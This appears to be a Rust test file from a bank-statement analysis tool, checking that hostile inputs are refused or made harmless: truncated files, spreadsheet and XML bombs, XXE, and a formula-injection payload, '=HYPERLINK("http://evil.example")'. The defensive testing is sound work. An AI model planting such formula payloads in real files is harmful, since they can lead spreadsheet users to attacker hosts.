//! The hostile and broken input corpus (`fixtures/hostile/`, listed in `docs/testing.md`):
//! each file run through the binary, with its exact outcome asserted — the exit code, the
//! error naming the file and the reason, or the rejected lines and their reasons — and,
//! for every run, that the input file is byte for byte what it was before.

use std::path::{Path, PathBuf};
use std::process::Command;

use proceeds::hash::sha256_file;

use crate::support::{fixture, read_csv};

/// The account a hostile statement is read into.
#[derive(Clone, Copy)]
enum Account {
    /// Lloyds-style sort code and account number, GBP.
    UkCurrent,
    /// `DE89370400440532013000`, EUR (camt, MT940).
    GermanIban,
    /// `GB82WEST12345698765432`, GBP (OFX).
    UkIban,
}

fn case_toml(file_name: &str, layout: &str, account: Account, exhibit: &str) -> String {
    let identifiers = match account {
        Account::UkCurrent => "sort_code = \"30-94-57\"\naccount_number = \"11223344\"\n",
        Account::GermanIban => "iban = \"DE89370400440532013000\"\ncurrency = \"EUR\"\n",
        Account::UkIban => "iban = \"GB82WEST12345698765432\"\n",
    };
    // camt and MT940 accounts are in euro: a euro case needs no exchange rates.
    let base = match account {
        Account::GermanIban => "EUR",
        _ => "GBP",
    };
    format!(
        r#"[case]
reference = "HOSTILE"
base_currency = "{base}"
lifestyle = true

[dates]
proceedings_started = 2025-03-14

[[subjects]]
id = "D1"
name = "Dorian Harlow"
role = "defendant"

[[accounts]]
id = "ACC"
holder = "Dorian Harlow"
bank = "Fictional Bank"
{identifiers}controlled_by = ["D1"]

[[sources]]
path = "{file_name}"
layout = "{layout}"
account = "ACC"
exhibit = '{exhibit}'
"#
    )
}

/// One run of the binary over a hostile input.
struct Run {
    code: i32,
    stderr: String,
    out: tempfile::TempDir,
    _case_dir: tempfile::TempDir,
}

impl Run {
    fn output(&self, name: &str) -> PathBuf {
        self.out.path().join(name)
    }

    /// Rows of `rejects.csv` as (line, field, reason, raw), header dropped.
    fn rejects(&self) -> Vec<(String, String, String, String)> {
        read_csv(&self.output("rejects.csv"))
            .into_iter()
            .skip(1)
            .map(|r| (r[2].clone(), r[3].clone(), r[4].clone(), r[5].clone()))
            .collect()
    }

    /// The ledger CSV as a header and rows.
    fn ledger(&self) -> (Vec<String>, Vec<Vec<String>>) {
        let mut rows = read_csv(&self.output("ledger.csv"));
        let header = rows.remove(0);
        (header, rows)
    }

    /// One column of the ledger CSV.
    fn ledger_column(&self, name: &str) -> Vec<String> {
        let (header, rows) = self.ledger();
        let i = header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}"));
        rows.into_iter().map(|r| r[i].clone()).collect()
    }

    fn assert_failed(&self, code: i32, needles: &[&str]) {
        assert_eq!(self.code, code, "exit code; stderr: {}", self.stderr);
        for n in needles {
            assert!(
                self.stderr.contains(n),
                "stderr lacks {n:?}: {}",
                self.stderr
            );
        }
        assert!(
            !self.stderr.contains("panicked"),
            "the process panicked: {}",
            self.stderr
        );
    }

    fn assert_ok(&self) {
        assert_eq!(self.code, 0, "stderr: {}", self.stderr);
    }
}

fn proceeds() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_proceeds"));
    c.env_remove("PROCEEDS_RUN_TIMESTAMP")
        .env_remove("SOURCE_DATE_EPOCH")
        .env_remove("PROCEEDS_MEMORY_AVAILABLE")
        .arg("run");
    c
}

fn exec(mut cmd: Command, case: &Path, case_dir: tempfile::TempDir, extra: &[&str]) -> Run {
    let out = tempfile::tempdir().unwrap();
    let output = cmd
        .arg(case)
        .arg("--out")
        .arg(out.path())
        .arg("--quiet")
        .args(["--run-timestamp", "2025-01-01T00:00:00Z"])
        .args(extra)
        .output()
        .unwrap();
    Run {
        code: output.status.code().unwrap_or(-1),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        out,
        _case_dir: case_dir,
    }
}

/// Copy `bytes` into a fresh case folder as `file_name`, write a case file reading it with
/// `layout`, run, and check the input was not changed.
fn run_bytes(file_name: &str, bytes: &[u8], layout: &str, account: Account) -> Run {
    run_bytes_with_exhibit(file_name, bytes, layout, account, "HOSTILE/1")
}

fn run_bytes_with_exhibit(
    file_name: &str,
    bytes: &[u8],
    layout: &str,
    account: Account,
    exhibit: &str,
) -> Run {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join(file_name);
    std::fs::write(&input, bytes).unwrap();
    let case = dir.path().join("case.toml");
    std::fs::write(&case, case_toml(file_name, layout, account, exhibit)).unwrap();
    let before = sha256_file(&input).unwrap();
    let run = exec(proceeds(), &case, dir, &[]);
    let after = sha256_file(&input).unwrap();
    assert_eq!(
        before, after,
        "the input {file_name} was changed by the run"
    );
    run
}

/// Run a file of `fixtures/hostile/`.
fn run_fixture(name: &str, layout: &str, account: Account) -> Run {
    let path = fixture(&format!("hostile/{name}"));
    let bytes = std::fs::read(&path).unwrap();
    let before = sha256_file(&path).unwrap();
    let run = run_bytes(name, &bytes, layout, account);
    assert_eq!(before, sha256_file(&path).unwrap());
    run
}

/// Run a case file of `fixtures/hostile/cases/` in place.
fn run_case_fixture(name: &str, extra: &[&str]) -> Run {
    let case = fixture(&format!("hostile/cases/{name}"));
    exec(proceeds(), &case, tempfile::tempdir().unwrap(), extra)
}

// ---- Truncated files -------------------------------------------------------------------

#[test]
fn csv_cut_mid_row_rejects_the_cut_row_and_keeps_the_rest() {
    let run = run_fixture("truncated_mid_row.csv", "lloyds", Account::UkCurrent);
    run.assert_ok();
    assert_eq!(
        run.rejects(),
        vec![(
            "4".to_string(),
            String::new(),
            "row has 5 fields, expected 8".to_string(),
            "03/03/2024,FPO,'30-94-57,11223344,R HOLL".to_string()
        )]
    );
    assert_eq!(run.ledger_column("amount"), ["500.00", "-23.45"]);
}

#[test]
fn csv_cut_inside_a_quote_rejects_the_cut_row() {
    let run = run_fixture("truncated_in_quote.csv", "lloyds", Account::UkCurrent);
    run.assert_ok();
    let rejects = run.rejects();
    assert_eq!(rejects.len(), 1, "{rejects:?}");
    assert_eq!(rejects[0].0, "3");
    assert_eq!(rejects[0].2, "row has 5 fields, expected 8");
    assert_eq!(run.ledger_column("amount"), ["-23.45"]);
}

#[test]
fn mt940_cut_mid_entry_rejects_the_entry_and_the_missing_closing_balance() {
    let run = run_fixture("mt940_truncated.sta", "mt940", Account::GermanIban);
    run.assert_ok();
    let rejects: Vec<(String, String, String)> = run
        .rejects()
        .into_iter()
        .map(|(line, field, reason, _)| (line, field, reason))
        .collect();
    assert_eq!(
        rejects,
        [
            (
                "1".to_string(),
                ":62F:".to_string(),
                "MT940 statement has no :62F:/:62M: closing balance (file truncated?)".to_string()
            ),
            (
                "7".to_string(),
                ":61: amount".to_string(),
                "amount \"1\" is not a number with a decimal comma (expected e.g. 1234,56)"
                    .to_string()
            ),
        ]
    );
    assert_eq!(run.ledger_column("amount"), ["-20.00"]);
}

#[test]
fn camt_cut_mid_document_is_refused_whole() {
    // Cut inside a tag: not well-formed.
    let run = run_fixture("camt_truncated.xml", "camt", Account::GermanIban);
    run.assert_failed(
        2,
        &["source camt_truncated.xml (layout camt), line 18: not well-formed XML"],
    );
    // Cut between elements: well-formed so far, but the document never ends.
    let run = run_fixture(
        "camt_truncated_between_elements.xml",
        "camt",
        Account::GermanIban,
    );
    run.assert_failed(
        2,
        &[
            "source camt_truncated_between_elements.xml (layout camt)",
            "the file ends inside <Stmt> opened at line 4: the document is truncated",
        ],
    );
}

#[test]
fn ofx_cut_mid_document_is_refused_whole() {
    let run = run_fixture("ofx_truncated.ofx", "ofx", Account::UkIban);
    run.assert_failed(
        2,
        &["source ofx_truncated.ofx (layout ofx), line 11: the file ends inside <STMTTRN> opened at line 11: </STMTTRN> is missing, the file is truncated"],
    );
}

// ---- Not text, not this encoding ------------------------------------------------------

#[test]
fn binary_garbage_named_csv_is_refused() {
    let run = run_fixture("garbage.csv", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source garbage.csv: the file is binary, not text (NUL byte at offset 88)"],
    );
}

#[test]
fn high_byte_garbage_without_nul_is_not_the_layout() {
    let run = run_fixture("garbage_no_nul.csv", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &[
            "source garbage_no_nul.csv (layout lloyds), line 1: no header found; expected a row naming the columns \"Transaction Date\"",
        ],
    );
}

#[test]
fn a_nul_byte_makes_the_file_binary() {
    let run = run_fixture("nul_byte.csv", "lloyds", Account::UkCurrent);
    run.assert_failed(2, &["source nul_byte.csv", "NUL byte at offset 158"]);
}

#[test]
fn utf16_with_a_byte_order_mark_is_read_exactly() {
    let run = run_fixture("utf16le_bom.csv", "lloyds", Account::UkCurrent);
    run.assert_ok();
    assert!(run.rejects().is_empty());
    assert_eq!(run.ledger_column("amount"), ["500.00", "-23.45"]);
    assert_eq!(
        run.ledger_column("description"),
        ["CASH DEPOSIT LEEDS", "CAFÉ £ TESCO"]
    );
    let sources = read_csv(&run.output("sources.csv"));
    assert_eq!(sources[1][7], "utf-16le (BOM)");
}

#[test]
fn utf16_cut_mid_character_is_refused() {
    let run = run_fixture("utf16le_truncated.csv", "lloyds", Account::UkCurrent);
    run.assert_failed(2, &["source utf16le_truncated.csv", "not valid UTF-16LE"]);
}

#[test]
fn utf16_without_a_byte_order_mark_is_refused_as_binary() {
    let run = run_fixture("utf16le_no_bom.csv", "lloyds", Account::UkCurrent);
    run.assert_failed(2, &["source utf16le_no_bom.csv", "NUL byte at offset 1"]);
}

/// A cut `.xls` (found by the mutation test below): the spreadsheet library panicked inside
/// its container reader. Refused before it is opened, without a panic.
#[test]
fn a_truncated_xls_is_refused() {
    let run = run_fixture("xls_truncated.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_truncated.xls (layout lloyds), line 1: the spreadsheet is damaged: its sector table in sector 8 is cut short (is the file truncated?)"],
    );
}

/// A 6 KB `.xls` whose allocation table loops (found by fuzzing the ingest target): the
/// spreadsheet library followed the loop until memory ran out. Refused before it is opened.
#[test]
fn an_xls_whose_sector_chains_loop_is_refused_in_bounded_memory() {
    let run = run_fixture("xls_sector_loop.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_sector_loop.xls (layout lloyds), line 1: the spreadsheet is damaged: its sector chains loop back on themselves"],
    );
}

/// A 5.6 KB `.xls` whose Dimensions record claims rows 0 to 4,294,965,507 (found by
/// fuzzing): the spreadsheet library reserved a slot per claimed cell (1.4 TB) and the
/// allocation failure aborted the process. Refused from the record, in bounded memory.
#[test]
fn an_xls_claiming_billions_of_rows_is_refused_in_bounded_memory() {
    let run = run_fixture("xls_huge_dimensions.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_huge_dimensions.xls (layout lloyds), line 1: the spreadsheet is damaged or crafted: a sheet declares 34359724056 cells (rows 0 to 4294965507, columns 0 to 8), more than the 20000000 cells read from one sheet"],
    );
}

/// A 5.6 KB `.xls` whose cell records name columns up to 50,433 (BIFF8 allows 256; found by
/// fuzzing): the spreadsheet library builds the rectangle from the first to the last cell,
/// 103 million cells, and took 6.5 GB. Refused from the cell records, in bounded memory.
#[test]
fn an_xls_with_cells_far_apart_is_refused_in_bounded_memory() {
    let run = run_fixture("xls_cells_far_apart.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_cells_far_apart.xls (layout lloyds), line 1: the spreadsheet is damaged or crafted: a sheet's cells span rows 0 to 2048 and columns 0 to 50433, 103339266 cells from its first to its last, more than the 20000000 cells read from one sheet"],
    );
}

/// A 1.6 KB `.xlsx` with one cell in A1 and one in XFD1048576: the spreadsheet library
/// would allocate a slot for each of the 17 billion cells between them (550 GB) and abort
/// the process. Refused after streaming the cells once.
#[test]
fn an_xlsx_spanning_the_whole_grid_is_refused_in_bounded_memory() {
    let run = run_fixture("xlsx_huge_range.xlsx", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xlsx_huge_range.xlsx (layout lloyds), line 1: sheet \"Sheet1\" spans 1048576 rows by 16384 columns (17179869184 cells from its first to its last cell), more than the 20000000 cells read from one sheet"],
    );
    // Format detection reads the same sheet: no layout fits, and the process survives.
    let out = Command::new(env!("CARGO_BIN_EXE_proceeds"))
        .args(["formats", "detect"])
        .arg(fixture("hostile/xlsx_huge_range.xlsx"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("no shipped or case layout fits"));
}

/// An `.xls` (the Lloyds fixture) whose Dimensions record runs backwards, rows 10 to 5
/// (`fixtures/hostile/make_spreadsheets.py`): refused from the record, never opened.
#[test]
fn an_xls_whose_dimensions_run_backwards_is_refused() {
    let run = run_fixture("xls_dimensions_backwards.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_dimensions_backwards.xls (layout lloyds), line 1: the spreadsheet is damaged: a sheet's dimensions run backwards (rows 10 to 5, columns 0 to 8)"],
    );
}

/// `.ods` is read: a statement as LibreOffice writes one, every row padded with 16,376 empty
/// cells and 1,048,574 empty rows after the table, is one ledger row, exactly.
#[test]
fn an_ods_statement_with_trailing_empty_repeats_is_read() {
    let run = run_fixture("ods_trailing_repeats.ods", "lloyds", Account::UkCurrent);
    run.assert_ok();
    assert_eq!(run.ledger_column("amount"), ["-12.50"]);
    assert_eq!(run.ledger_column("balance"), ["100.00"]);
    assert_eq!(run.ledger_column("source_line"), ["2"]);
    assert!(run.rejects().is_empty());
}

/// Crafted `.ods` workbooks of under 3 KB (`fixtures/hostile/make_spreadsheets.py`): the
/// spreadsheet library would store every repeated cell (3,000 rows of 16,384 numbers took
/// 4.3 GB), write out a million spaces per repeated copy, or loop for ever on a sheet with
/// no end. Each is refused from one pass over its content, naming the sheet and the count.
#[test]
fn ods_with_huge_repeats_or_no_end_are_refused_in_bounded_memory() {
    for (name, message) in [
        ("ods_wide_rows.ods", "the spreadsheet is damaged or crafted: by sheet \"Sheet1\" its repeated rows and columns make at least 5013504 cells, more than the 5000000 cells read from one .ods workbook; export the statement as CSV"),
        ("ods_repeated_rows.ods", "the spreadsheet is damaged or crafted: by sheet \"Sheet1\" its repeated rows and columns make at least 17179869184 cells, more than the 5000000 cells read from one .ods workbook"),
        ("ods_repeated_spaces.ods", "the spreadsheet is damaged or crafted: by sheet \"Sheet1\" its repeated cells hold at least 1000000312 bytes of text, more than the 200000000 read from one workbook"),
        ("ods_unclosed_sheet.ods", "the spreadsheet is damaged: its content ends inside sheet \"Sheet1\" (is the file truncated?)"),
    ] {
        let run = run_fixture(name, "lloyds", Account::UkCurrent);
        run.assert_failed(2, &[&format!("source {name} (layout lloyds), line 1: {message}")]);
        // Format detection opens the same workbook: no layout fits, quickly.
        let started = std::time::Instant::now();
        let out = Command::new(env!("CARGO_BIN_EXE_proceeds"))
            .args(["formats", "detect"])
            .arg(fixture(&format!("hostile/{name}")))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{name}");
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("no shipped or case layout fits"),
            "{name}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(started.elapsed().as_secs() < 60, "{name}: detection took {:?}", started.elapsed());
    }
}

/// A 4.7 KB `.xls` whose sector table is cut short (found by fuzzing): the library asserted
/// on it. Refused before it is opened, without a panic.
#[test]
fn an_xls_with_a_cut_sector_table_is_refused_without_a_panic() {
    let run = run_fixture("xls_cut_table.xls", "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source xls_cut_table.xls (layout lloyds), line 1: the spreadsheet is damaged: its sector table in sector 8 is cut short"],
    );
}

/// Classic Mac line endings (CR only), with a blank line: each record has its own line
/// (they were all "line 1", sharing one txn_id; found by fuzzing the CSV reader).
#[test]
fn cr_only_line_endings_give_distinct_lines_and_ids() {
    let run = run_fixture("cr_only.csv", "lloyds", Account::UkCurrent);
    run.assert_ok();
    assert_eq!(run.ledger_column("source_line"), ["4", "3"]);
    let ids = run.ledger_column("txn_id");
    assert!(
        ids[0].ends_with("-L4") && ids[1].ends_with("-L3"),
        "{ids:?}"
    );
    let skipped = read_csv(&run.output("skipped.csv"));
    let lines: Vec<(&str, &str)> = skipped[1..]
        .iter()
        .map(|r| (r[1].as_str(), r[2].as_str()))
        .collect();
    assert_eq!(lines, [("1", "header"), ("2", "blank line")]);
}

/// What a run read, with everything that depends on the file's bytes (its SHA-256, hence
/// the txn_ids, and the raw text, whose line breaks are the file's own) left out: the ledger
/// rows, the rejects' (line, field, reason) and the skipped lines' (line, reason).
type ReadOutcome = (
    Vec<Vec<String>>,
    Vec<(String, String, String)>,
    Vec<(String, String)>,
);

fn read_outcome(run: &Run) -> ReadOutcome {
    run.assert_ok();
    let (header, rows) = run.ledger();
    let keep: Vec<usize> = (0..header.len())
        .filter(|&i| !matches!(header[i].as_str(), "txn_id" | "source_sha256"))
        .collect();
    let ledger = rows
        .iter()
        .map(|r| keep.iter().map(|&i| r[i].clone()).collect())
        .collect();
    let rejects = run
        .rejects()
        .into_iter()
        .map(|(line, field, reason, _raw)| (line, field, reason))
        .collect();
    let skipped = read_csv(&run.output("skipped.csv"))
        .into_iter()
        .skip(1)
        .map(|r| (r[1].clone(), r[2].clone()))
        .collect();
    (ledger, rejects, skipped)
}

/// Run a CR-only fixture as written, with LF and with CRLF line endings; all three must
/// read the same rows, rejects and skipped lines on the same line numbers.
fn same_outcome_for_every_line_ending(name: &str, layout: &str, account: Account) -> ReadOutcome {
    let cr = std::fs::read(fixture(&format!("hostile/{name}"))).unwrap();
    assert!(
        cr.contains(&b'\r') && !cr.contains(&b'\n'),
        "{name} must be CR-only"
    );
    let lf: Vec<u8> = cr
        .iter()
        .map(|&b| if b == b'\r' { b'\n' } else { b })
        .collect();
    let crlf: Vec<u8> = cr
        .iter()
        .flat_map(|&b| {
            if b == b'\r' {
                vec![b'\r', b'\n']
            } else {
                vec![b]
            }
        })
        .collect();
    let from_cr = read_outcome(&run_fixture(name, layout, account));
    let from_lf = read_outcome(&run_bytes(name, &lf, layout, account));
    let from_crlf = read_outcome(&run_bytes(name, &crlf, layout, account));
    assert_eq!(from_cr, from_lf, "{name}: CR-only and LF differ");
    assert_eq!(from_crlf, from_lf, "{name}: CRLF and LF differ");
    from_lf
}

/// MT940 with classic Mac line endings (CR only): read exactly as the LF and CRLF copies
/// (it was one line: the whole file rejected as "line 1").
#[test]
fn mt940_cr_only_reads_like_lf_and_crlf() {
    let (ledger, rejects, _) =
        same_outcome_for_every_line_ending("mt940_cr_only.sta", "mt940", Account::GermanIban);
    let run = run_fixture("mt940_cr_only.sta", "mt940", Account::GermanIban);
    assert_eq!(run.ledger_column("source_line"), ["6", "9", "14"]);
    assert_eq!(run.ledger_column("amount"), ["-20.00", "150.50", "-30.00"]);
    assert_eq!(ledger.len(), 3);
    assert_eq!(rejects.len(), 1, "{rejects:?}");
    assert_eq!(rejects[0].0, "12");
    assert_eq!(rejects[0].1, ":61: amount");
}

/// A Santander text statement with CR-only line endings: same blocks, same lines as LF
/// and CRLF (it was one line: no block found past the first key).
#[test]
fn santander_blocks_cr_only_read_like_lf_and_crlf() {
    let (ledger, rejects, skipped) = same_outcome_for_every_line_ending(
        "santander_cr_only.txt",
        "santander",
        Account::UkCurrent,
    );
    let run = run_fixture("santander_cr_only.txt", "santander", Account::UkCurrent);
    assert_eq!(run.ledger_column("source_line"), ["19", "10", "5"]);
    assert_eq!(
        run.ledger_column("amount"),
        ["350.00", "2500.00", "-200.00"]
    );
    assert_eq!(ledger.len(), 3);
    assert_eq!(
        rejects,
        [("15".to_string(), "amount".to_string(), rejects[0].2.clone())]
    );
    let lines: Vec<&str> = skipped.iter().map(|(l, _)| l.as_str()).collect();
    assert_eq!(lines, ["1", "2", "3", "4", "9", "14"]);
}

/// Format detection sees the tags and block keys of CR-only files at line starts too.
#[test]
fn cr_only_mt940_and_blocks_are_detected() {
    for (name, layout) in [
        ("mt940_cr_only.sta", "mt940"),
        ("santander_cr_only.txt", "santander"),
    ] {
        let output = Command::new(env!("CARGO_BIN_EXE_proceeds"))
            .args(["formats", "detect"])
            .arg(fixture(&format!("hostile/{name}")))
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert_eq!(output.status.code(), Some(0), "{name}: {stdout}");
        assert!(
            stdout
                .lines()
                .next()
                .unwrap_or("")
                .ends_with(&format!(": {layout}")),
            "{name}: {stdout}"
        );
    }
}

// ---- Size ------------------------------------------------------------------------------

/// A 10 MB line with no line break: no header in it, so not the layout. Generated here,
/// not committed.
#[test]
fn a_ten_megabyte_single_line_is_refused_as_not_the_layout() {
    let line = "A,".repeat(5 * 1024 * 1024);
    let run = run_bytes("huge.csv", line.as_bytes(), "lloyds", Account::UkCurrent);
    run.assert_failed(
        2,
        &["source huge.csv (layout lloyds), line 1", "no header found"],
    );
}

/// A row with a 10 MiB description after a good header: read, the description kept whole.
#[test]
fn a_row_with_a_ten_megabyte_description_is_kept_whole() {
    let mut text = String::from(
        "Transaction Date,Transaction Type,Sort Code,Account Number,Transaction Description,Debit Amount,Credit Amount,Balance\n",
    );
    text.push_str("05/03/2024,DEB,'30-94-57,11223344,");
    text.push_str(&"X".repeat(10 * 1024 * 1024));
    text.push_str(",1.00,,\n05/03/2024,DEB,'30-94-57,11223344,SMALL,2.00,,\n");
    let run = run_bytes(
        "long_row.csv",
        text.as_bytes(),
        "lloyds",
        Account::UkCurrent,
    );
    run.assert_ok();
    assert_eq!(run.ledger_column("amount"), ["-2.00", "-1.00"]);
    let description = run.ledger_column("description");
    assert_eq!(description[1].len(), 10 * 1024 * 1024);
}

/// The memory budget: on a pretend 1 MB machine `ingest` (which holds the whole ledger) is
/// refused before any source is read, with exit code 2 and a message naming the total, the
/// estimate, the memory available, the largest sources and what to do. `run` goes in
/// batches of linked accounts by itself, and is refused when even the pass that links the
/// accounts does not fit (tests/it/batches.rs: when the largest group does not);
/// `--no-memory-check` runs it.
#[test]
fn a_case_larger_than_the_memory_available_is_refused_unless_overridden() {
    let case = fixture("demo/case.toml");
    let run = |extra: &[&str]| {
        let mut cmd = proceeds();
        cmd.env("PROCEEDS_MEMORY_AVAILABLE", "1000000");
        exec(cmd, &case, tempfile::tempdir().unwrap(), extra)
    };
    let mut ingest = Command::new(env!("CARGO_BIN_EXE_proceeds"));
    ingest
        .env_remove("PROCEEDS_RUN_TIMESTAMP")
        .env("PROCEEDS_MEMORY_AVAILABLE", "1000000")
        .arg("ingest");
    let refused = exec(ingest, &case, tempfile::tempdir().unwrap(), &[]);
    refused.assert_failed(
        2,
        &[
            "not enough memory for this case: its 7 source files total 11.0 kB (11023 bytes)",
            "needs an estimated 1.0 GB of memory at its peak (1.0 GB + 10 × the input)",
            "1.0 MB is available (PROCEEDS_MEMORY_AVAILABLE)",
            "Largest sources: statements/banco_ficticio_DH_EUR_2024Q1.xml (4.6 kB), statements/lloyds_DH_2024Q1.csv (1.7 kB)",
            "No source has been read",
            "a machine with more memory",
            "--no-memory-check",
            "Only `ingest` and `trace --backward` hold the whole ledger this way",
        ],
    );
    assert!(
        !refused.output("ledger.csv").exists() && !refused.output("manifest.json").exists(),
        "a refused run wrote outputs"
    );
    let refused = run(&[]);
    refused.assert_failed(
        2,
        &[
            "the whole ledger would need an estimated 2.0 GB at its peak and 1.0 MB is available (PROCEEDS_MEMORY_AVAILABLE), so the run went in batches of linked accounts, and then: not enough memory to link this case's accounts: after reading 1.2 kB of its 11.0 kB of sources",
            "and 1.0 MB is available (PROCEEDS_MEMORY_AVAILABLE)",
            "a machine with more memory",
            "--no-memory-check",
        ],
    );
    assert!(
        std::fs::read_dir(refused.out.path())
            .unwrap()
            .next()
            .is_none(),
        "a refused run wrote outputs"
    );
    let overridden = run(&["--no-memory-check"]);
    overridden.assert_ok();
    assert!(overridden.output("ledger.csv").exists());
    assert!(overridden.output("manifest.json").exists());

    // A machine with room for the estimate runs it without the flag.
    let mut cmd = proceeds();
    cmd.env("PROCEEDS_MEMORY_AVAILABLE", "2100000000");
    exec(cmd, &case, tempfile::tempdir().unwrap(), &[]).assert_ok();

    // A value that is not a number of bytes is refused, naming the variable.
    let mut cmd = proceeds();
    cmd.env("PROCEEDS_MEMORY_AVAILABLE", "8G");
    exec(cmd, &case, tempfile::tempdir().unwrap(), &[]).assert_failed(
        2,
        &["PROCEEDS_MEMORY_AVAILABLE is \"8G\"; it must be a whole number of bytes"],
    );
}

/// `proceeds ingest FILE` (one statement, no case file) is checked the same way.
#[test]
fn a_single_statement_file_is_checked_against_the_memory_available() {
    let file = fixture("hostile/cr_only.csv");
    let out = tempfile::tempdir().unwrap();
    let ingest = |extra: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_proceeds"))
            .env("PROCEEDS_MEMORY_AVAILABLE", "1000000")
            .arg("ingest")
            .arg(&file)
            .arg("--out")
            .arg(out.path())
            .args(["--layout", "lloyds", "--quiet"])
            .args(extra)
            .output()
            .unwrap()
    };
    let refused = ingest(&[]);
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(
            "its 1 source file total 257 bytes, a run over them needs an estimated 1.0 GB"
        ),
        "{stderr}"
    );
    let allowed = ingest(&["--no-memory-check"]);
    assert_eq!(
        allowed.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&allowed.stderr)
    );
}

// ---- XML: entities, DTDs, nesting -------------------------------------------------------

#[test]
fn camt_billion_laughs_is_refused_never_expanded() {
    let run = run_fixture("camt_billion_laughs.xml", "camt", Account::GermanIban);
    run.assert_failed(
        2,
        &["camt_billion_laughs.xml", "line 2", "DTDs are refused"],
    );
}

#[test]
fn camt_external_entities_are_refused_never_fetched() {
    let run = run_fixture("camt_xxe.xml", "camt", Account::GermanIban);
    run.assert_failed(2, &["camt_xxe.xml", "DTDs are refused"]);
    let run = run_fixture("camt_external_dtd.xml", "camt", Account::GermanIban);
    run.assert_failed(2, &["camt_external_dtd.xml", "DTDs are refused"]);
    let run = run_fixture("camt_undeclared_entity.xml", "camt", Account::GermanIban);
    run.assert_failed(
        2,
        &[
            "camt_undeclared_entity.xml",
            "entity reference &xxe; is not one of the predefined XML entities",
        ],
    );
}

#[test]
fn camt_deep_nesting_is_refused() {
    let run = run_fixture("camt_deep_nesting.xml", "camt", Account::GermanIban);
    run.assert_failed(2, &["camt_deep_nesting.xml", "nested more than 64 deep"]);
}

/// A million nested elements, generated here: refused at depth 64, memory bounded.
#[test]
fn camt_a_million_nested_elements_are_refused() {
    let text = format!(
        "<?xml version=\"1.0\"?>\n<Document>{}{}</Document>\n",
        "<A>".repeat(1_000_000),
        "</A>".repeat(1_000_000)
    );
    let run = run_bytes("deep.xml", text.as_bytes(), "camt", Account::GermanIban);
    run.assert_failed(2, &["deep.xml", "nested more than 64 deep"]);
}

#[test]
fn ofx_entities_are_left_as_written_never_expanded_or_fetched() {
    for name in ["ofx_billion_laughs.ofx", "ofx_xxe.ofx"] {
        let run = run_fixture(name, "ofx", Account::UkIban);
        run.assert_ok();
        let description = run.ledger_column("description");
        let expected = if name == "ofx_xxe.ofx" {
            "&xxe;"
        } else {
            "&lol9;"
        };
        assert_eq!(description, [expected], "{name}");
        assert_eq!(run.ledger_column("amount"), ["-1.00"], "{name}");
    }
}

/// Deep nesting in OFX, generated here: no aggregate contains itself, so a million
/// aggregate opens are siblings, not a 400,000-deep tree, and the file is refused cleanly.
#[test]
fn ofx_deeply_nested_aggregates_are_read_in_bounded_time() {
    let text = format!(
        "<OFX>{}{}</OFX>\n",
        "<BANKMSGSRSV1><STMTTRNRS>".repeat(200_000),
        "</NOPE>".repeat(200_000)
    );
    let started = std::time::Instant::now();
    let run = run_bytes("deep.ofx", text.as_bytes(), "ofx", Account::UkIban);
    run.assert_failed(
        2,
        &[
            "deep.ofx",
            "holds no bank (STMTRS) or credit-card (CCSTMTRS) statement",
        ],
    );
    assert!(started.elapsed().as_secs() < 30, "{:?}", started.elapsed());
}

/// Two million `<` that open no tag: read in linear time.
#[test]
fn ofx_many_unclosed_angle_brackets_are_read_in_bounded_time() {
    let text = format!("<OFX>{}</OFX>\n", "< 1".repeat(2_000_000));
    let started = std::time::Instant::now();
    let run = run_bytes("angles.ofx", text.as_bytes(), "ofx", Account::UkIban);
    run.assert_failed(
        2,
        &[
            "angles.ofx",
            "holds no bank (STMTRS) or credit-card (CCSTMTRS) statement",
        ],
    );
    assert!(started.elapsed().as_secs() < 30, "{:?}", started.elapsed());
    let text = format!("<OFX>{}>\n", "<a ".repeat(2_000_000));
    let started = std::time::Instant::now();
    let run = run_bytes("angles2.ofx", text.as_bytes(), "ofx", Account::UkIban);
    run.assert_failed(2, &["angles2.ofx"]);
    assert!(started.elapsed().as_secs() < 30, "{:?}", started.elapsed());
}

// ---- Formula payloads -------------------------------------------------------------------

const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every text cell of a CSV output: none may start a formula.
fn assert_inert(path: &Path, numeric: &[&str]) {
    let rows = read_csv(path);
    let header = rows[0].clone();
    for row in &rows[1..] {
        for (name, cell) in header.iter().zip(row) {
            if numeric.contains(&name.as_str()) {
                continue;
            }
            assert!(
                !cell.starts_with(FORMULA_TRIGGERS),
                "{}: column {name} holds a live formula {cell:?}",
                path.display()
            );
        }
    }
}

#[test]
fn formula_payloads_in_every_text_field_are_inert_in_csv_and_raw_in_parquet() {
    let run = run_bytes_with_exhibit(
        "formulas.csv",
        &std::fs::read(fixture("hostile/formulas.csv")).unwrap(),
        "starling",
        Account::UkCurrent,
        "=HYPERLINK(\"http://evil.example\")",
    );
    run.assert_ok();
    let numeric = [
        "source_line",
        "seq",
        "booking_date",
        "value_date",
        "amount",
        "amount_base",
        "balance",
        "reversal",
    ];
    assert_inert(&run.output("ledger.csv"), &numeric);
